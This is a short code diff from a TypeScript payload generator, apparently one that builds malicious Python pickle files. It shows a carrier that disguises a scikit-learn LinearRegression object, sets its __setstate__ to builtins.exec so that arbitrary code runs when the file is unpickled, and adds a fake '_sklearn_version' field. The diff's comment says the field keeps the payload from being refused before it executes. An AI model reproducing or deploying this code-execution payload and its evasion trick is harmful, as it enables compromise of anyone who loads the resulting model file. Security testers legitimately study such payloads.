@@ -194,7 +194,9 @@ const carriers: Readonly<Record<string, Carrier>> = {
     make: ({ write, code }) =>
       pickled(
         ...[write.global('sklearn.linear_model._base', 'LinearRegression'), 'EMPTY_TUPLE', 'NEWOBJ'],
-        ...['EMPTY_DICT', write.text('__setstate__'), write.global('builtins', 'exec'), 'SETITEM', 'BUILD'],
+        // It says a version as others do: else it is refused before anything is carried out.
+        ...['EMPTY_DICT', write.text('_sklearn_version'), write.text('1.5.2'), 'SETITEM'],
+        ...[write.text('__setstate__'), write.global('builtins', 'exec'), 'SETITEM', 'BUILD'],
         ...[write.text(code), 'BUILD'],
       ),
   },
